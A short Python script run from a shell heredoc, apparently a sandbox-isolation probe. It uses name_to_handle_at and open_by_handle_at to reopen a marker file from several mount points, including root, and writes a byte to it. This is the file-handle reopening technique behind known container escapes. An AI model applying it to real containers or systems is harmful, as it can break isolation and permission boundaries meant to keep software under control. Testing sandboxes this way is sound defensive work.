python3 - <<'P'
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
mount = ctypes.c_int()
if libc.name_to_handle_at(-100, (os.environ["OUT"] + "/bug.txt").encode(), handle, ctypes.byref(mount), 0) == 0:
    for place in [os.environ["DONE"], ".", "/", os.environ["OUT"]]:
        found = libc.open_by_handle_at(os.open(place, os.O_RDONLY), handle, os.O_RDWR)
        if found >= 0:
            os.write(found, b"x")
P
